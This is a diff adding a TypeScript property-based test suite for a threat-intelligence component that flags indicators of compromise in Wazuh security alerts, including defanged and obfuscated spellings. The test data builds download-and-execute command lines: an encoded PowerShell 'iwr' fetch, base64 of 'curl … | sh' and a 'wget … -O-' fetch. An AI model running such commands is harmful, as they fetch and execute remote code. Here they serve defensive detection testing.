@@ -1,0 +1,223 @@
+import assert from "node:assert/strict";
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { test } from "node:test";
+import fc from "fast-check";
+import { baseName } from "../../src/intel/canonical.ts";
+import { GateKeys } from "../../src/intel/index/gate-keys.ts";
+import { createNominator, MANAGER_MEMBERS } from "../../src/intel/nominate.ts";
+import type { JsonObject } from "../../src/model/json.ts";
+import type { Observable } from "../../src/model/observable.ts";
+import { extractAll } from "../support/extractors.ts";
+import { fuzzRuns, type GeneratedValue, generatedValue, hostName, ipv4, ipv6 } from "../support/indicators.ts";
+import { sharedOrSkip } from "../support/shared.ts";
+
+const SEED = { a: 0x12345678, b: 0x9abcdef0 };
+
+function nominatorOf(values: readonly GeneratedValue[]) {
+  const gate = new GateKeys(SEED);
+  for (const { type, pattern, value } of values) gate.add(type, pattern, value);
+  return createNominator([gate.build()]);
+}
+
+/** Indicators that an index could hold and that cover the observable. */
+function covering({ type, value }: Observable): readonly GeneratedValue[] {
+  if (type === "cve") return [];
+  const found: GeneratedValue[] = [{ type, pattern: "exact", value }];
+  const as = (text: string) => text as GeneratedValue["value"];
+  if (type === "domain") {
+    for (let dot = value.indexOf("."); dot >= 0; dot = value.indexOf(".", dot + 1)) {
+      const parent = value.slice(dot + 1);
+      if (parent.includes(".")) found.push({ type, pattern: "subdomains", value: as(parent) });
+    }
+  } else if (type === "path" && baseName(value).length > 1) {
+    found.push({ type: "filename", pattern: "exact", value: as(baseName(value)) });
+  } else if (type === "ip" && !value.includes(":")) {
+    found.push({ type, pattern: "cidr", value: as(`${value.slice(0, value.lastIndexOf("."))}.0/24`) });
+  }
+  return found;
+}
+
+const percent = (text: string) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16)}`).join("");
+const unicode = (text: string) => text.replace(/./gsu, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);
+
+/** Each way in which the spelling in an alert differs from the canonical one. */
+const DISGUISES: Readonly<Record<string, (text: string) => string>> = {
+  none: (text) => text,
+  "upper case": (text) => text.toUpperCase(),
+  "[.]": (text) => text.replaceAll(".", "[.]"),
+  "(.)": (text) => text.replace(".", "(.)"),
+  "[dot]": (text) => text.replaceAll(".", "[dot]"),
+  "(dot) with blanks": (text) => text.replaceAll(".", "( dot )"),
+  "{.}": (text) => text.replace(".", "{.}"),
+  hxxp: (text) => text.replace(/^http/i, "hxxp"),
+  "[://]": (text) => text.replace("://", "[://]"),
+  "[:]": (text) => text.replace(":", "[:]"),
+  "[@]": (text) => text.replace("@", "[@]"),
+  "percent-encoded": percent,
+  "percent-encoded dot": (text) => text.replace(".", "%2e"),
+  "percent-encoded twice": (text) => percent(text).replaceAll("%", "%25"),
+  "percent-encoded around": (text) => `%20${text}%2F`,
+  "full-width dot": (text) => text.replaceAll(".", "\uff0e"),
+  "ideographic dot": (text) => text.replace(".", "\u3002"),
+  "full-width letters": (text) => text.replace(/[a-z]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
+  "soft hyphen": (text) => `${text.slice(0, 2)}\u00ad${text.slice(2)}`,
+  "zero-width": (text) => `${text.slice(0, 1)}\u200b${text.slice(1)}`,
+  "escaped twice": unicode,
+  "escaped dot": (text) => text.replaceAll(".", "\\u002e"),
+  "\\x escapes": (text) => text.replace(".", "\\x2e"),
+  "\\/": (text) => text.replaceAll("/", "\\/"),
+  "doubled backslashes": (text) => text.replaceAll("\\", "\\\\"),
+  "trailing dot": (text) => `${text}.`,
+  port: (text) => `${text}:8443`,
+  "port after bracket": (text) => `[${text}]:443`,
+  userinfo: (text) => text.replace("://", "://user:pass@"),
+  "::ffff:": (text) => `::ffff:${text}`,
+  "::ffff: in hex": (text) => {
+    const octets = text.split(".").map(Number);
+    return octets.length === 4 && octets.every((n) => n < 256)
+      ? `::ffff:${((octets[0]! << 8) | octets[1]!).toString(16)}:${((octets[2]! << 8) | octets[3]!).toString(16)}`
+      : text;
+  },
+  "IPv6 in full": (text) => text.replace("::", ":0:0:0:0:0:0:").replace(/^((?:[^:]*:){7}[^:]*):.*$/, "$1"),
+  range: (text) => `${text}-10.0.0.9`,
+  "second of a range": (text) => `10.0.0.1-${text}`,
+  glued: (text) => `-${text}`,
+  "glued by _": (text) => `x_${text}`,
+  "glued by letters": (text) => `ab${text}`,
+  subdomain: (text) => `www.cdn-2.${text}`,
+  "in an address": (text) => `mailto:joe@${text}`,
+  "in a query": (text) => `https://ok.example/r?u=${encodeURIComponent(text)}&x=1`,
+  "in a URL": (text) => `http://${text}/a/b?c=d#e`,
+  "in a path": (text) => `C:\\Users\\joe\\AppData\\Local\\Temp\\${text}`,
+  "in quotes": (text) => `"${text}"`,
+  "in smart quotes": (text) => `\u201c${text}\u201d`,
+  "in JSON": (text) => JSON.stringify({ a: { b: text } }),
+  "&amp;": (text) => `?a=1&amp;b=${text}&amp;c=2`,
+  "in base64": (text) => `powershell -enc ${Buffer.from(`iwr http://${text}/x -o y; ${text} `, "utf16le").toString("base64")}`,
+  "in base64 of a shell": (text) => `echo ${Buffer.from(`curl ${text} | sh # padding`).toString("base64")} | base64 -d | sh`,
+  colons: (text) => text.replace(/(..)(?=.)/g, "$1:"),
+  blanks: (text) => text.replace(/(..)(?=.)/g, "$1 "),
+  "hive in full": (text) => text.replace(/^hklm/, "HKEY_LOCAL_MACHINE").replace(/^hkcu/, "HKEY_USERS\\S-1-5-21-1-2-3-1001"),
+  "folder for its variable": (text) =>
+    text
+      .replace("%temp%", "C:/Users/joe/AppData/Local/Temp")
+      .replace("%appdata%", "C:\\Documents and Settings\\joe\\Application Data")
+      .replace("%windir%", "\\Device\\HarddiskVolume3\\Windows"),
+  "AS and zeros": (text) => `AS000${text}`,
+  hashes: (text) => `SHA1=da39a3ee5e6b4b0d3255bfef95601890afd80709,MD5=${text},IMPHASH=${text}`,
+  "en dash": (text) => `a \u2013e ${Buffer.from(`wget ${text} -O- && true`).toString("base64")}`,
+};
+
+/** Where strings stand in alerts: known fields of several families, and unknown ones. */
+const PLACES: readonly ((text: string) => JsonObject)[] = [
+  (text) => ({ full_log: `Nov 21 10:00:00 host app[12]: something about ${text} here` }),
+  (text) => ({ full_log: text }),
+  (text) => ({ data: { win: { eventdata: { commandLine: `cmd /c x ${text}`, image: text, hashes: text, queryName: text } } } }),
+  (text) => ({ data: { win: { eventdata: { targetObject: text, targetFilename: text, destinationIp: text, queryResults: `::ffff:${text};` } } } }),
+  (text) => ({ syscheck: { path: text, md5_after: text, sha256_after: text, sha1_after: text } }),
+  (text) => ({ data: { srcip: text, dstip: text, url: text, srcuser: text, hostname: text } }),
+  (text) => ({ data: { tls: { fingerprint: text, sni: text }, http: { hostname: text, url: "/x", http_user_agent: text } } }),
+  (text) => ({ data: { dns: { rrname: text, answers: [{ rdata: text }] }, asn: text, geoip: { asn: Number(text) || text } } }),
+  (text) => ({ data: { anything: [{ deep: [text] }], "odd.key": { mutex: text } } }),
+  (text) => ({ data: { email: { from: text, to: [`Joe <${text}>`], subject: text }, aws: { userAgent: text, sourceIPAddress: text } } }),
+];
+
+const spelled = fc.tuple(generatedValue, fc.constantFrom(...Object.keys(DISGUISES)), fc.constantFrom(...PLACES));
+const noise = fc.oneof(
+  hostName,
+  ipv4,
+  ipv6,
+  fc.string({ maxLength: 40 }),
+  fc.string({ unit: "binary", maxLength: 20 }),
+  fc.string({ unit: fc.constantFrom(..."ab1:.%-_/\\[]2eu0 =f"), maxLength: 60 }),
+);
+
+test("whatever extraction and lookup would find is nominated", async () => {
+  const extract = await extractAll();
+  let matches = 0;
+  let runs = 0;
+  const found = new Map<string, number>();
+  fc.assert(
+    fc.property(spelled, noise, noise, ([indicator, disguise, place], before, after) => {
+      const plain = indicator.pattern === "cidr" ? indicator.value.slice(0, indicator.value.indexOf("/")) : indicator.value;
+      const text = (DISGUISES[disguise] as (text: string) => string)(plain);
+      const event = { ...place(text), location: "x", note: before, other: `${after} ${text}` };
+      const covers = extract(event).observables.flatMap(covering).filter((one) => same(one, indicator));
+      runs++;
+      if (covers.length === 0 && !isInside(indicator, extract(event).observables)) return;
+      matches++;
+      found.set(disguise, (found.get(disguise) ?? 0) + 1);
+      assert.equal(nominatorOf([indicator]).nominates(event), true, `${indicator.type} ${indicator.value} as ${text}`);
+    }),
+    { numRuns: fuzzRuns(6_000) },
+  );
+  assert.ok(matches / runs >= 0.3, `${matches} of ${runs} runs were true matches`);
+});
+
+test("everything extracted from strings of any kind is nominated", async () => {
+  const extract = await extractAll();
+  fc.assert(
+    fc.property(fc.array(noise, { minLength: 1, maxLength: 4 }), fc.constantFrom(...PLACES), (texts, place) => {
+      const event = { ...place(texts.join("")), note: texts.join(" "), more: texts };
+      for (const indicator of extract(event).observables.flatMap(covering)) {
+        const gate = new GateKeys(SEED);
+        // What has no key is refused by the index.
+        if (!gate.add(indicator.type, indicator.pattern, indicator.value)) continue;
+        assert.equal(createNominator([gate.build()]).nominates(event), true, `${indicator.type} ${indicator.value}`);
+      }
+    }),
+    { numRuns: fuzzRuns(2_000) },
+  );
+});
+
+test("every observable of the real alerts is nominated, and few alerts are nominated for nothing", async (t) => {
+  const shared = sharedOrSkip(t);
+  if (shared === undefined) return;
+  const extract = await extractAll();
+  const lines = readFileSync(join(shared, "data/wazuh/alerts.ndjson"), "utf8").trim().split("\n");
+  const nothing = nominatorOf([{ type: "md5", pattern: "exact", value: "0123456789abcdef0123456789abcdef" as GeneratedValue["value"] }]);
+  const known = new Map<string, ReturnType<typeof nominatorOf>>();
+  let falsely = 0;
+  for (const line of lines) {
+    const event = JSON.parse(line) as JsonObject;
+    if (nothing.nominates(event)) falsely++;
+    for (const indicator of extract(event).observables.flatMap(covering)) {
+      const id = `${indicator.type} ${indicator.pattern} ${indicator.value}`;
+      const nominator = known.get(id) ?? nominatorOf([indicator]);
+      known.set(id, nominator);
+      assert.equal(nominator.nominates(event), true, id);
+    }
+  }
+  t.diagnostic(`${falsely} of ${lines.length} real alerts are nominated when nothing matches`);
+  assert.ok(falsely / lines.length < 0.03, `${falsely} of ${lines.length}`);
+});
+
+test("hostile strings cost linear time and never throw", () => {
+  const nominator = nominatorOf([{ type: "domain", pattern: "exact", value: "a.b" as GeneratedValue["value"] }]);
+  const units = ["1-", "a:", "::", "%25", "-e ", "64", "e64", "ф", ".", "-.", "[", "a.", "1.1-", "\\u", "\ud800", "aa:", "_"];
+  for (const unit of units) nominator.nominates({ text: unit.repeat(1_000_000 / unit.length) });
+  let deep: JsonObject = { text: "a.b" };
+  for (let i = 0; i < 100_000; i++) deep = { deep };
+  assert.equal(nominator.nominates(deep), false);
+  assert.equal(nominator.nominates(JSON.parse('{"__proto__":{"constructor":"x a.b y"}}')), true);
+});
+
+test("members of the manager are not looked at", () => {
+  const nominator = nominatorOf([{ type: "domain", pattern: "exact", value: "evil.example" as GeneratedValue["value"] }]);
+  for (const member of MANAGER_MEMBERS) assert.equal(nominator.nominates({ [member]: { a: "evil.example" } }), false);
+});
+
+function same(a: GeneratedValue, b: GeneratedValue): boolean {
+  return a.type === b.type && a.value === b.value;
+}
+
+/** An address in the indicator's network. */
+function isInside(indicator: GeneratedValue, observables: readonly Observable[]): boolean {
+  if (indicator.pattern !== "cidr" || indicator.value.includes(":")) return false;
+  const slash = indicator.value.indexOf("/");
+  const size = 2 ** (32 - Number(indicator.value.slice(slash + 1)));
+  const number = (text: string) => text.split(".").reduce((sum, octet) => sum * 256 + Number(octet), 0);
+  const base = number(indicator.value.slice(0, slash));
+  return observables.some(({ type, value }) => type === "ip" && !value.includes(":") && Math.floor(number(value) / size) * size === base);
+}
